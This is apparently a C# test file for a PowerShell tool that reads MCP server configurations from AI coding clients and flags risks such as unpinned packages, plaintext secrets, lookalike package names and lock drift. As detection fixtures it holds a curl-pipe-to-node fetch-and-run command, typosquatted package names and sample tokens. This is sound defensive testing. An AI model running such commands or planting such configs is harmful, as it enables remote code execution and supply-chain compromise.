using System;
using System.Collections.Generic;
using System.Collections.ObjectModel;
using System.IO;
using System.Linq;
using System.Management.Automation;
using System.Management.Automation.Runspaces;
using System.Runtime.InteropServices;
using System.Text;
using System.Threading;
using ModelSecurity.Analysis;
using ModelSecurity.Commands;
using ModelSecurity.Mcp;
using ModelSecurity.Reporting;
using Xunit;

namespace ModelSecurity.Tests;

/// <summary>Get-McpServer, Test-McpServer and Export-McpServerLock: client formats, command lines, findings with clean twins, the lock.</summary>
public sealed class McpServerTests : IDisposable
{
    private const string GitHubToken = "ghp_Zq8xR2mT5vW9yB3nK7pL1sD4fG6hJ0aC2eXu";
    private const string ApiKey = "sk-proj-Hx7Lq2Wv9Rt4Yp6Mn3Bc8Kd1";
    private const string BearerSecret = "Bearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0";

    private readonly string _folder;
    private readonly string _home;
    private readonly string _appData;
    private readonly string _project;

    public McpServerTests()
    {
        _folder = Path.Combine(Path.GetTempPath(), "ModelSecurity.McpTests." + Guid.NewGuid().ToString("N"));
        _home = Path.Combine(_folder, "home");
        _appData = Path.Combine(_home, ".config");
        _project = Path.Combine(_folder, "project");
        Directory.CreateDirectory(_home);
        Directory.CreateDirectory(_project);
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    // ---- Client formats --------------------------------------------------------------------------

    [Fact]
    public void EveryClientFormat_ParsesIntoTheRightServers()
    {
        Write(Path.Combine(_appData, "Claude", "claude_desktop_config.json"), """
            {
              "mcpServers": {
                "filesystem": {
                  "command": "npx",
                  "args": ["-y", "@modelcontextprotocol/server-filesystem", "/Users/me/Desktop"]
                }
              },
              "globalShortcut": ""
            }
            """);
        Write(Path.Combine(_home, ".claude.json"), """
            {
              "numStartups": 12,
              "mcpServers": { "time": { "type": "stdio", "command": "uvx", "args": ["mcp-server-time==0.6.2"], "env": {} } },
              "projects": {
                "/work/app": {
                  "allowedTools": [],
                  "mcpServers": { "github": { "type": "http", "url": "https://api.githubcopilot.com/mcp/", "headers": { "Authorization": "Bearer ${GITHUB_PAT}" } } }
                }
              }
            }
            """);
        Write(Path.Combine(_project, ".mcp.json"), """
            { "mcpServers": { "sentry": { "type": "sse", "url": "https://mcp.sentry.dev/sse" } } }
            """);
        Write(Path.Combine(_appData, "Code", "User", "settings.json"), """
            {
              // VS Code writes JSONC: comments and trailing commas.
              "editor.fontSize": 13,
              "mcp": {
                "servers": {
                  "fetch": { "type": "stdio", "command": "uvx", "args": ["mcp-server-fetch"], },
                },
              },
            }
            """);
        Write(Path.Combine(_project, ".vscode", "mcp.json"), """
            {
              "inputs": [ { "type": "promptString", "id": "pat", "description": "GitHub token", "password": true } ],
              "servers": {
                "github": {
                  "type": "stdio",
                  "command": "docker",
                  "args": ["run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server:v0.4.0@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"],
                  "env": { "GITHUB_PERSONAL_ACCESS_TOKEN": "${input:pat}" }
                }
              }
            }
            """);
        Write(Path.Combine(_home, ".cursor", "mcp.json"), """
            { "mcpServers": { "playwright": { "command": "npx", "args": ["@playwright/mcp@0.0.29"] }, "remote": { "url": "https://mcp.example.com/mcp" } } }
            """);
        Write(Path.Combine(_home, ".codeium", "windsurf", "mcp_config.json"), """
            { "mcpServers": { "linear": { "serverUrl": "https://mcp.linear.app/sse" }, "local": { "command": "node", "args": ["/opt/mcp/server.js"], "cwd": "/opt/mcp" } } }
            """);
        Write(Path.Combine(_home, ".continue", "config.yaml"), """
            name: My assistant
            version: 0.0.1
            schema: v1
            mcpServers:
              - name: SQLite
                command: uvx
                args:
                  - mcp-server-sqlite
                  - --db-path
                  - /data/test.db
                env:
                  LOG_LEVEL: debug
            """);
        Write(Path.Combine(_project, ".continue", "mcpServers", "playwright-mcp.yaml"), """
            name: Playwright mcpServer
            version: 0.0.1
            schema: v1
            mcpServers:
              - name: Browser search
                command: npx
                args:
                  - "@playwright/mcp@latest"
            """);

        var locations = new McpConfigLocations(_home, _appData, _project, OSPlatform.Linux);
        Dictionary<string, McpServer> servers = ReadAll(locations).ToDictionary(s => s.Client + "/" + s.Name);

        McpServer fs = servers["ClaudeDesktop/filesystem"];
        Assert.Equal(McpTransport.Stdio, fs.Transport);
        Assert.Equal(McpPackageManager.Npx, fs.PackageManager);
        Assert.Equal("@modelcontextprotocol/server-filesystem", fs.Package);
        Assert.Null(fs.RequestedVersion);
        Assert.Equal(new[] { "-y", "@modelcontextprotocol/server-filesystem", "/Users/me/Desktop" }, fs.Arguments);

        McpServer time = servers["ClaudeCode/time"];
        Assert.Equal((McpPackageManager.Uvx, "mcp-server-time", "0.6.2"), (time.PackageManager, time.Package, time.RequestedVersion));
        Assert.Null(time.Project);

        McpServer gh = servers["ClaudeCode/github"];
        Assert.Equal(McpTransport.Http, gh.Transport);
        Assert.Equal("https://api.githubcopilot.com/mcp/", gh.Url);
        Assert.Equal("/work/app", gh.Project);
        Assert.Equal(new[] { "Authorization" }, gh.HeaderNames);
        Assert.Equal(McpTransport.Http, servers["ClaudeCode/sentry"].Transport);
        Assert.Equal(Path.Combine(_project, ".mcp.json"), servers["ClaudeCode/sentry"].ConfigPath);

        Assert.Equal((McpPackageManager.Uvx, "mcp-server-fetch"), (servers["VSCode/fetch"].PackageManager, servers["VSCode/fetch"].Package));
        McpServer docker = servers["VSCode/github"];
        Assert.Equal(McpPackageManager.Docker, docker.PackageManager);
        Assert.Equal("ghcr.io/github/github-mcp-server", docker.Package);
        Assert.StartsWith("v0.4.0@sha256:0f1e", docker.RequestedVersion, StringComparison.Ordinal);
        Assert.Equal(new[] { "GITHUB_PERSONAL_ACCESS_TOKEN" }, docker.EnvironmentNames);

        Assert.Equal("0.0.29", servers["Cursor/playwright"].RequestedVersion);
        Assert.Equal("https://mcp.example.com/mcp", servers["Cursor/remote"].Url);
        Assert.Equal("https://mcp.linear.app/sse", servers["Windsurf/linear"].Url);
        McpServer local = servers["Windsurf/local"];
        Assert.Equal((McpPackageManager.Local, "/opt/mcp/server.js", "/opt/mcp"), (local.PackageManager, local.Package, local.WorkingDirectory));

        McpServer sqlite = servers["Continue/SQLite"];
        Assert.Equal((McpPackageManager.Uvx, "mcp-server-sqlite"), (sqlite.PackageManager, sqlite.Package));
        Assert.Equal(new[] { "LOG_LEVEL" }, sqlite.EnvironmentNames);
        Assert.Equal(("@playwright/mcp", "latest"), (servers["Continue/Browser search"].Package, servers["Continue/Browser search"].RequestedVersion));
        Assert.Equal(12, servers.Count);
    }

    [Fact]
    public void ContinueJson_OlderExperimentalLayout_IsRead()
    {
        string path = Write(Path.Combine(_home, ".continue", "config.json"), """
            { "experimental": { "modelContextProtocolServers": [ { "transport": { "type": "stdio", "command": "uvx", "args": ["mcp-server-git==2025.1.14"] } } ] } }
            """);

        McpServer server = Assert.Single(McpConfigReader.Read(path, McpConfigReader.ClientOf(path), new List<string>()));

        Assert.Equal("Continue", server.Client);
        Assert.Equal((McpPackageManager.Uvx, "mcp-server-git", "2025.1.14"), (server.PackageManager, server.Package, server.RequestedVersion));
    }

    [Theory]
    [InlineData("claude_desktop_config.json", "Claude", "ClaudeDesktop")]
    [InlineData(".mcp.json", "app", "ClaudeCode")]
    [InlineData("mcp.json", ".cursor", "Cursor")]
    [InlineData("mcp.json", ".vscode", "VSCode")]
    [InlineData("mcp_config.json", "windsurf", "Windsurf")]
    [InlineData("servers.json", "anywhere", "Custom")]
    public void ClientOf_RecognisesAFileByNameAndFolder(string file, string folder, string client)
    {
        Assert.Equal(client, McpConfigReader.ClientOf(Path.Combine(_folder, folder, file)));
    }

    [Fact]
    public void MissingDefaultFiles_AreSkipped()
    {
        var locations = new McpConfigLocations(_home, _appData, _project, OSPlatform.Linux);

        Assert.Empty(locations.Existing());
        Assert.NotEmpty(locations.Candidates());
    }

    // ---- Command lines ---------------------------------------------------------------------------

    [Theory]
    [InlineData("npx", "-y|@modelcontextprotocol/server-github", McpPackageManager.Npx, "@modelcontextprotocol/server-github", null)]
    [InlineData("npx", "--yes|mcp-server-x@1.2.3|--flag", McpPackageManager.Npx, "mcp-server-x", "1.2.3")]
    [InlineData("npx", "-y|-p|@scope/pkg@2.0.0|pkg-bin", McpPackageManager.Npx, "@scope/pkg", "2.0.0")]
    [InlineData("npx.cmd", "@scope/pkg@latest", McpPackageManager.Npx, "@scope/pkg", "latest")]
    [InlineData("npm", "exec|--yes|--|tool@0.1.0", McpPackageManager.Npx, "tool", "0.1.0")]
    [InlineData("pnpm", "dlx|@upstash/context7-mcp@1.0.14", McpPackageManager.Npx, "@upstash/context7-mcp", "1.0.14")]
    [InlineData("bunx", "some-mcp", McpPackageManager.Npx, "some-mcp", null)]
    [InlineData("uvx", "mcp-server-fetch", McpPackageManager.Uvx, "mcp-server-fetch", null)]
    [InlineData("uvx", "--from|git-mcp==1.4|git-mcp-server", McpPackageManager.Uvx, "git-mcp", "1.4")]
    [InlineData("uvx", "--python|3.12|mcp-server-time@0.6.2", McpPackageManager.Uvx, "mcp-server-time", "0.6.2")]
    [InlineData("uvx", "pkg>=1.0", McpPackageManager.Uvx, "pkg", ">=1.0")]
    [InlineData("uv", "tool|run|mcp-server-git", McpPackageManager.Uvx, "mcp-server-git", null)]
    [InlineData("pipx", "run|--spec|mcp-proxy==0.8.0|mcp-proxy", McpPackageManager.Pipx, "mcp-proxy", "0.8.0")]
    [InlineData("docker", "run|-i|--rm|-e|TOKEN|-v|/a:/b|--network|none|mcp/fetch", McpPackageManager.Docker, "mcp/fetch", null)]
    [InlineData("docker", "run|--name=x|-eA=1|registry.io:5000/org/img:1.2@sha256:abcd|serve", McpPackageManager.Docker, "registry.io:5000/org/img", "1.2@sha256:abcd")]
    [InlineData("podman", "run|-it|mcp/time:latest", McpPackageManager.Docker, "mcp/time", "latest")]
    [InlineData("node", "/opt/mcp/build/index.js", McpPackageManager.Local, "/opt/mcp/build/index.js", null)]
    [InlineData("python", "-u|server.py", McpPackageManager.Local, "server.py", null)]
    [InlineData("/usr/local/bin/my-mcp", "--stdio", McpPackageManager.Local, "/usr/local/bin/my-mcp", null)]
    [InlineData("my-mcp", "--stdio", McpPackageManager.None, null, null)]
    public void CommandLine_GivesPackageAndVersion(string command, string args, McpPackageManager manager, string? package, string? version)
    {
        McpLaunch launch = McpCommandLine.Read(command, args.Split('|'));

        Assert.Equal((manager, package, version), (launch.PackageManager, launch.Package, launch.RequestedVersion));
    }

    // ---- Broken files ----------------------------------------------------------------------------

    [Fact]
    public void BrokenJson_NamesTheFileLineAndPosition()
    {
        string path = Write(Path.Combine(_folder, "broken.json"), "{\n  \"mcpServers\": {\n    \"a\": { \"command\": \"npx\" ,, }\n  }\n}\n");

        var e = Assert.Throws<McpConfigException>(() => McpConfigReader.Read(path, "Custom", new List<string>()));

        Assert.Contains(path, e.Message, StringComparison.Ordinal);
        Assert.Contains("line 3, position 30", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void BrokenYaml_NamesTheFileAndLine()
    {
        string path = Write(Path.Combine(_folder, "broken.yaml"), "mcpServers:\n  - name: a\n    args: [unclosed\n");

        var e = Assert.Throws<McpConfigException>(() => McpConfigReader.Read(path, "Continue", new List<string>()));

        Assert.Contains(path, e.Message, StringComparison.Ordinal);
        Assert.Contains("not valid YAML at line", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void GetMcpServer_BrokenFile_IsAnErrorAndTheNextFileIsRead()
    {
        string broken = Write(Path.Combine(_folder, "a.json"), "{ \"mcpServers\": { \"x\": { \"command\": \"npx\" } ");
        string good = Write(Path.Combine(_folder, "b.json"), "{ \"mcpServers\": { \"ok\": { \"command\": \"npx\", \"args\": [\"pkg@1.0.0\"] } } }");
        using PowerShell shell = CreateShell();

        Collection<PSObject> output = shell.AddCommand("Get-McpServer").AddParameter("Path", new[] { broken, Path.Combine(_folder, "missing.json"), good }).Invoke();

        McpServer server = Assert.IsType<McpServer>(Assert.Single(output).BaseObject);
        Assert.Equal("ok", server.Name);
        Assert.Equal(2, shell.Streams.Error.Count);
        Assert.StartsWith(ErrorIds.McpConfigInvalid + ",", shell.Streams.Error[0].FullyQualifiedErrorId, StringComparison.Ordinal);
        Assert.Contains("line 1, position", shell.Streams.Error[0].Exception.Message, StringComparison.Ordinal);
        Assert.Equal(broken, shell.Streams.Error[0].TargetObject);
        Assert.StartsWith(ErrorIds.PathNotFound + ",", shell.Streams.Error[1].FullyQualifiedErrorId, StringComparison.Ordinal);
    }

    // ---- Findings, each with a clean twin --------------------------------------------------------

    public static TheoryData<string, string, string> FindingTwins() => new()
    {
        { RuleIds.McpUnpinned, """{"command":"npx","args":["@modelcontextprotocol/server-memory"]}""", """{"command":"npx","args":["@modelcontextprotocol/server-memory@2025.4.25"]}""" },
        { RuleIds.McpUnpinned, """{"command":"npx","args":["@modelcontextprotocol/server-memory@latest"]}""", """{"command":"npx","args":["@modelcontextprotocol/server-memory@2025.4.25"]}""" },
        { RuleIds.McpUnpinned, """{"command":"uvx","args":["mcp-server-fetch"]}""", """{"command":"uvx","args":["mcp-server-fetch==2025.4.7"]}""" },
        { RuleIds.McpUnpinned, """{"command":"docker","args":["run","-i","--rm","mcp/fetch:1.0"]}""", """{"command":"docker","args":["run","-i","--rm","mcp/fetch:1.0@sha256:5ba1c2f1e3d4"]}""" },
        { RuleIds.McpAutoInstall, """{"command":"npx","args":["-y","@modelcontextprotocol/server-memory@2025.4.25"]}""", """{"command":"npx","args":["@modelcontextprotocol/server-memory@2025.4.25"]}""" },
        { RuleIds.McpAutoInstall, """{"command":"docker","args":["run","--pull","always","mcp/fetch@sha256:5ba1c2f1e3d4"]}""", """{"command":"docker","args":["run","--pull","missing","mcp/fetch@sha256:5ba1c2f1e3d4"]}""" },
        { RuleIds.McpPlainSecret, $$$"""{"command":"npx","args":["@modelcontextprotocol/server-github@2025.4.8"],"env":{"GITHUB_PERSONAL_ACCESS_TOKEN":"{{{GitHubToken}}}"}}""", """{"command":"npx","args":["@modelcontextprotocol/server-github@2025.4.8"],"env":{"GITHUB_PERSONAL_ACCESS_TOKEN":"${env:GITHUB_TOKEN}"}}""" },
        { RuleIds.McpPlainSecret, $$$"""{"type":"http","url":"https://mcp.example.com/mcp","headers":{"Authorization":"{{{BearerSecret}}}"}}""", """{"type":"http","url":"https://mcp.example.com/mcp","headers":{"Authorization":"Bearer ${input:token}"}}""" },
        { RuleIds.McpPlainSecret, $$"""{"command":"node","args":["/opt/mcp/index.js","--api-key={{ApiKey}}"]}""", """{"command":"node","args":["/opt/mcp/index.js","--api-key=${env:OPENAI_API_KEY}"]}""" },
        { RuleIds.McpPlainSecret, """{"command":"node","args":["/opt/mcp/index.js"],"env":{"DB_PASSWORD":"hunter2hunter2"}}""", """{"command":"node","args":["/opt/mcp/index.js"],"env":{"DB_PASSWORD":"<your-password>"}}""" },
        { RuleIds.McpPlainHttp, """{"type":"http","url":"http://mcp.example.com/mcp"}""", """{"type":"http","url":"https://mcp.example.com/mcp"}""" },
        { RuleIds.McpPlainHttp, """{"type":"sse","url":"http://10.0.0.5:8000/sse"}""", """{"type":"sse","url":"http://127.0.0.1:8000/sse"}""" },
        { RuleIds.McpShellInterpolation, """{"command":"bash","args":["-c","node $(npm root -g)/srv/index.js"]}""", """{"command":"bash","args":["-c","exec node /opt/srv/index.js"]}""" },
        { RuleIds.McpShellInterpolation, """{"command":"cmd","args":["/c","curl https://x.example/s.js | node"]}""", """{"command":"cmd","args":["/c","node C:\\mcp\\index.js"]}""" },
        { RuleIds.McpShellInterpolation, """{"command":"sh","args":["-c","cd /opt/srv && node index.js"]}""", """{"command":"node","args":["/opt/srv/index.js"],"cwd":"/opt/srv"}""" },
        { RuleIds.McpWorldWritable, """{"command":"python3","args":["/tmp/mcp/server.py"]}""", """{"command":"python3","args":["/opt/mcp/server.py"]}""" },
        { RuleIds.McpWorldWritable, """{"command":"/dev/shm/mcp-server","args":[]}""", """{"command":"/usr/local/bin/mcp-server","args":[]}""" },
        { RuleIds.McpLookalike, """{"command":"npx","args":["@modelcontextprotocol/server-filesytem@1.0.0"]}""", """{"command":"npx","args":["@modelcontextprotocol/server-filesystem@2025.8.21"]}""" },
        { RuleIds.McpLookalike, """{"command":"npx","args":["@mcp-tools/server-filesystem@1.0.0"]}""", """{"command":"npx","args":["@modelcontextprotocol/server-filesystem@2025.8.21"]}""" },
        { RuleIds.McpLookalike, """{"command":"uvx","args":["mcp-server-fecth==1.0"]}""", """{"command":"uvx","args":["mcp-server-fetch==2025.4.7"]}""" },
        { RuleIds.McpLookalike, """{"command":"docker","args":["run","-i","mcp/githuh@sha256:5ba1c2f1e3d4"]}""", """{"command":"docker","args":["run","-i","mcp/github@sha256:5ba1c2f1e3d4"]}""" },
    };

    [Theory]
    [MemberData(nameof(FindingTwins))]
    public void Finding_HasACleanTwin(string ruleId, string bad, string clean)
    {
        McpServerTestResult flagged = Test(Entry(bad));
        McpServerTestResult twin = Test(Entry(clean));

        Assert.Contains(flagged.Findings, f => f.RuleId == ruleId);
        Assert.True(twin.Findings.Count == 0, "clean twin: " + string.Join("; ", twin.Findings));
        Assert.Equal(ScanVerdict.Clean, twin.Verdict);
    }

    [SkippableFact]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public void WorldWritable_FolderModeOnDisk_IsFound()
    {
        Skip.If(OperatingSystem.IsWindows(), "modes are a Unix notion; the textual folders are covered by the twin tests");

        // The clean twin needs a parent no other user can write: a clone under /tmp is not one.
        string? parent = new[] { AppContext.BaseDirectory, Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".cache") }
            .FirstOrDefault(p => McpServerAnalyzer.WritableByOthers(Path.Combine(p, "x")) is null);
        Skip.If(parent is null, "neither the test folder nor ~/.cache sits in a folder only its owner can write");
        Directory.CreateDirectory(parent!);
        string open = Path.Combine(parent!, "mcp-open-" + Guid.NewGuid().ToString("N"));
        string closed = Path.Combine(parent!, "mcp-closed-" + Guid.NewGuid().ToString("N"));
        try
        {
            Directory.CreateDirectory(open);
            Directory.CreateDirectory(closed);
            File.SetUnixFileMode(open, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute | UnixFileMode.OtherRead | UnixFileMode.OtherWrite | UnixFileMode.OtherExecute);
            File.SetUnixFileMode(closed, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
            File.WriteAllText(Path.Combine(open, "server.js"), "//");
            File.WriteAllText(Path.Combine(closed, "server.js"), "//");
            string Json(string folder) => $$"""{"command":"node","args":["{{Path.Combine(folder, "server.js")}}"]}""";

            Assert.Contains(Test(Entry(Json(open))).Findings, f => f.RuleId == RuleIds.McpWorldWritable);
            Assert.Empty(Test(Entry(Json(closed))).Findings);
        }
        finally
        {
            Directory.Delete(open, true);
            Directory.Delete(closed, true);
        }
    }

    [Fact]
    public void Secrets_NeverAppearUnredacted_InObjectsFindingsLocksOrVerboseText()
    {
        string path = Write(Path.Combine(_folder, "secrets.json"), $$"""
            {
              "mcpServers": {
                "env": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"], "env": { "GITHUB_PERSONAL_ACCESS_TOKEN": "{{GitHubToken}}" } },
                "args": { "command": "node", "args": ["/opt/srv/index.js", "--api-key", "{{ApiKey}}", "--header", "Authorization: {{BearerSecret}}"] },
                "docker": { "command": "docker", "args": ["run", "-i", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN={{GitHubToken}}", "mcp/github"] },
                "remote": { "type": "http", "url": "https://user:{{ApiKey}}@mcp.example.com/mcp?api_key={{ApiKey}}", "headers": { "Authorization": "{{BearerSecret}}", "X-Api-Key": "{{ApiKey}}" } }
              }
            }
            """);
        string lockPath = Path.Combine(_folder, "lock.json");
        using PowerShell shell = CreateShell();
        shell.AddScript($"$VerbosePreference = 'Continue'; $WarningPreference = 'Continue'; Get-McpServer -Path '{path}' -Verbose | Tee-Object -Variable s | Test-McpServer -Verbose; $s | Export-McpServerLock -Path '{lockPath}' -PassThru -Verbose");

        Collection<PSObject> output = shell.Invoke();

        Assert.False(shell.HadErrors, string.Join("; ", shell.Streams.Error));
        var text = new StringBuilder();
        foreach (PSObject o in output)
        {
            text.AppendLine(Dump(o));
        }

        foreach (var record in shell.Streams.Verbose.Cast<object>().Concat(shell.Streams.Warning).Concat(shell.Streams.Information))
        {
            text.AppendLine(record.ToString());
        }

        text.AppendLine(File.ReadAllText(lockPath));
        string all = text.ToString();
        McpServerTestResult[] results = output.Select(o => o.BaseObject).OfType<McpServerTestResult>().ToArray();
        Assert.Equal(4, results.Length);
        Assert.All(results, r => Assert.Contains(r.Findings, f => f.RuleId == RuleIds.McpPlainSecret));
        Assert.Equal(3, results.Single(r => r.Name == "remote").Findings.Count(f => f.RuleId == RuleIds.McpPlainSecret));
        foreach (string secret in new[] { GitHubToken, ApiKey, BearerSecret, GitHubToken.Substring(4), ApiKey.Substring(4, 10), BearerSecret.Substring(7) })
        {
            Assert.DoesNotContain(secret, all, StringComparison.Ordinal);
        }

        Assert.Contains("ghp_…", all, StringComparison.Ordinal);
    }

    // ---- The lock --------------------------------------------------------------------------------

    [Fact]
    public void Lock_RoundTrip_PassesThenReportsDrift()
    {
        string config = Write(Path.Combine(_project, ".mcp.json"), """
            { "mcpServers": {
                "memory": { "command": "npx", "args": ["@modelcontextprotocol/server-memory@2025.4.25"] },
                "remote": { "type": "http", "url": "https://mcp.example.com/mcp" } } }
            """);
        string lockPath = Path.Combine(_folder, "locks", "mcp-lock.json");
        using (PowerShell shell = CreateShell())
        {
            shell.AddScript($"Get-McpServer -Path '{config}' | Export-McpServerLock -Path '{lockPath}'");
            Assert.Empty(shell.Invoke());
            Assert.False(shell.HadErrors, string.Join("; ", shell.Streams.Error));
            Assert.Empty(shell.Streams.Warning);
        }

        List<McpLockEntry> entries = McpLock.Read(lockPath);
        Assert.Equal(("2025.4.25", "Config"), (entries.Single(e => e.Name == "memory").Version, entries.Single(e => e.Name == "memory").ResolvedFrom));
        Assert.Equal("https://mcp.example.com/mcp", entries.Single(e => e.Name == "remote").Url);

        McpServerTestResult[] passing = TestWithLock(config, lockPath);
        Assert.All(passing, r => Assert.Empty(r.Findings));
        Assert.Equal("2025.4.25", passing.Single(r => r.Name == "memory").LockedVersion);

        File.WriteAllText(config, File.ReadAllText(config).Replace("@2025.4.25", "@2025.9.1", StringComparison.Ordinal).Replace("\"remote\"", "\"added\"", StringComparison.Ordinal));
        McpServerTestResult[] drifted = TestWithLock(config, lockPath);

        ModelFinding drift = Assert.Single(drifted.Single(r => r.Name == "memory").Findings);
        Assert.Equal(RuleIds.McpLockDrift, drift.RuleId);
        Assert.Contains("2025.4.25", drift.Detail, StringComparison.Ordinal);
        Assert.Contains("2025.9.1", drift.Detail, StringComparison.Ordinal);
        Assert.Equal(RuleIds.McpNotLocked, Assert.Single(drifted.Single(r => r.Name == "added").Findings).RuleId);
        McpServerTestResult gone = drifted.Single(r => r.Name == "remote");
        Assert.Null(gone.Server);
        Assert.Equal(RuleIds.McpLockOrphan, Assert.Single(gone.Findings).RuleId);
    }

    [Fact]
    public void Lock_UnpinnedPackage_ResolvesFromTheNpxCacheOrIsNullWithAWarning()
    {
        var server = Entry("""{"command":"npx","args":["-y","@modelcontextprotocol/server-everything"]}""");
        var resolver = new McpVersionResolver(_home, name => null);

        Assert.Null(resolver.Resolve(server, CancellationToken.None, out string? reason));
        Assert.Contains("local caches", reason, StringComparison.Ordinal);

        Write(Path.Combine(_home, ".npm", "_npx", "3f2a1b", "node_modules", "@modelcontextprotocol", "server-everything", "package.json"), """{ "name": "@modelcontextprotocol/server-everything", "version": "2025.9.12" }""");
        McpResolvedVersion? cached = resolver.Resolve(server, CancellationToken.None, out _);
        Assert.Equal(new McpResolvedVersion("2025.9.12", null, "NpxCache"), cached);

        Write(Path.Combine(_home, ".local", "share", "uv", "tools", "mcp-server-fetch", "lib", "python3.12", "site-packages", "mcp_server_fetch-2025.4.7.dist-info", "METADATA"), "Name: mcp-server-fetch\n");
        Assert.Equal(new McpResolvedVersion("2025.4.7", null, "UvTools"), resolver.Resolve(Entry("""{"command":"uvx","args":["mcp-server-fetch"]}"""), CancellationToken.None, out _));

        // Not a registry name (a git URL): never looked up, never guessed.
        Assert.Null(resolver.Resolve(Entry("""{"command":"npx","args":["github:someone/mcp-server#main"]}"""), CancellationToken.None, out string? gitReason));
        Assert.Contains("not a registry package name", gitReason, StringComparison.Ordinal);

        // No version, ever, for a mutable image tag.
        Assert.Null(resolver.Resolve(Entry("""{"command":"docker","args":["run","mcp/fetch:latest"]}"""), CancellationToken.None, out string? imageReason));
        Assert.Contains("sha256", imageReason, StringComparison.Ordinal);
    }

    [Fact]
    public void Lock_Online_ResolvesFromLoopbackNpmAndPyPI()
    {
        using var registry = new RecordedRegistry()
            .Answer("/@modelcontextprotocol/server-memory/latest", """{"name":"@modelcontextprotocol/server-memory","version":"2025.8.4","dist":{"integrity":"sha512-AbCdEf0123456789=="}}""")
            .Answer("/@playwright/mcp/0.0.29", """{"name":"@playwright/mcp","version":"0.0.29","dist":{"integrity":"sha512-PlAyWrIgHt=="}}""")
            .Answer("/pypi/mcp-server-time/json", """{"info":{"name":"mcp-server-time","version":"2025.8.4"},"urls":[{"packagetype":"bdist_wheel","digests":{"sha256":"11"}},{"packagetype":"sdist","digests":{"sha256":"22ab"}}]}""");
        string config = Write(Path.Combine(_folder, "online.json"), """
            { "mcpServers": {
                "memory": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"] },
                "playwright": { "command": "npx", "args": ["@playwright/mcp@0.0.29"] },
                "time": { "command": "uvx", "args": ["mcp-server-time"] },
                "missing": { "command": "npx", "args": ["not-published-anywhere"] } } }
            """);
        string lockPath = Path.Combine(_folder, "online-lock.json");
        using PowerShell shell = CreateShell();
        shell.AddScript($"$env:MODELSECURITY_HOME = '{_home}'; Get-McpServer -Path '{config}' | Export-McpServerLock -Path '{lockPath}' -Online -NpmRegistry '{registry.Endpoint}' -PyPIEndpoint '{registry.Endpoint}' -TimeoutSec 10 -PassThru; Remove-Item Env:MODELSECURITY_HOME");

        McpLockEntry[] entries = shell.Invoke().Select(o => Assert.IsType<McpLockEntry>(o.BaseObject)).ToArray();

        Assert.False(shell.HadErrors, string.Join("; ", shell.Streams.Error));
        Assert.Equal(("2025.8.4", "sha512-AbCdEf0123456789==", "NpmRegistry"), Facts(entries, "memory"));
        Assert.Equal(("0.0.29", "sha512-PlAyWrIgHt==", "Config"), Facts(entries, "playwright"));
        Assert.Equal(("2025.8.4", "sha256:22ab", "PyPI"), Facts(entries, "time"));
        Assert.Equal((null, null, null), Facts(entries, "missing"));
        Assert.Contains(shell.Streams.Warning, w => w.Message.Contains("not-published-anywhere", StringComparison.Ordinal));
        Assert.Contains("/@modelcontextprotocol/server-memory/latest", registry.Requests);
        Assert.Contains("\"sha512-AbCdEf0123456789==\"", File.ReadAllText(lockPath), StringComparison.Ordinal);
    }

    [Fact]
    public void Report_MapsTheTestResult()
    {
        McpServerTestResult result = Test(Entry("""{"type":"http","url":"http://mcp.example.com/mcp"}"""));

        ReportItem item = ReportItem.From(result, out string? reason) ?? throw new InvalidOperationException(reason);

        Assert.Equal(ReportKind.McpServer, item.Kind);
        Assert.Equal(ReportOutcome.Failed, item.Outcome);
        Assert.EndsWith("#s", item.Path, StringComparison.Ordinal);
        Assert.Equal(RuleIds.McpPlainHttp, Assert.Single(item.Findings).RuleId);
    }

    // ---- Helpers ---------------------------------------------------------------------------------

    private static (string?, string?, string?) Facts(IEnumerable<McpLockEntry> entries, string name)
    {
        McpLockEntry e = entries.Single(x => x.Name == name);
        return (e.Version, e.Integrity, e.ResolvedFrom);
    }

    private static McpServerTestResult[] TestWithLock(string config, string lockPath)
    {
        using PowerShell shell = CreateShell();
        shell.AddScript($"Get-McpServer -Path '{config}' | Test-McpServer -LockPath '{lockPath}'");
        McpServerTestResult[] results = shell.Invoke().Select(o => Assert.IsType<McpServerTestResult>(o.BaseObject)).ToArray();
        Assert.False(shell.HadErrors, string.Join("; ", shell.Streams.Error));
        return results;
    }

    private McpServerTestResult Test(McpServer server) => new McpServerAnalyzer(McpLookalikes.Default, new McpVersionResolver(_home, name => null)).Test(server);

    private McpServer Entry(string json)
    {
        string path = Write(Path.Combine(_folder, "entry-" + Guid.NewGuid().ToString("N") + ".json"), "{ \"mcpServers\": { \"s\": " + json + " } }");
        return Assert.Single(McpConfigReader.Read(path, "Custom", new List<string>()));
    }

    private static IEnumerable<McpServer> ReadAll(McpConfigLocations locations)
    {
        foreach (var (client, path) in locations.Existing())
        {
            var problems = new List<string>();
            foreach (McpServer server in McpConfigReader.Read(path, client, problems))
            {
                yield return server;
            }

            Assert.Empty(problems);
        }
    }

    private static string Dump(PSObject o)
    {
        var text = new StringBuilder(o.ToString());
        foreach (PSPropertyInfo property in o.Properties)
        {
            object? value = property.Value;
            text.Append(' ').Append(property.Name).Append('=');
            if (value is System.Collections.IEnumerable list and not string)
            {
                foreach (object? item in list)
                {
                    text.Append(item is PSObject p ? Dump(p) : item is null ? "" : Dump(PSObject.AsPSObject(item))).Append(',');
                }
            }
            else if (value is McpServer server)
            {
                text.Append(Dump(PSObject.AsPSObject(server)));
            }
            else
            {
                text.Append(value);
            }
        }

        return text.ToString();
    }

    private static string Write(string path, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, text);
        return path;
    }

    private static PowerShell CreateShell()
    {
        InitialSessionState state = InitialSessionState.CreateDefault2();
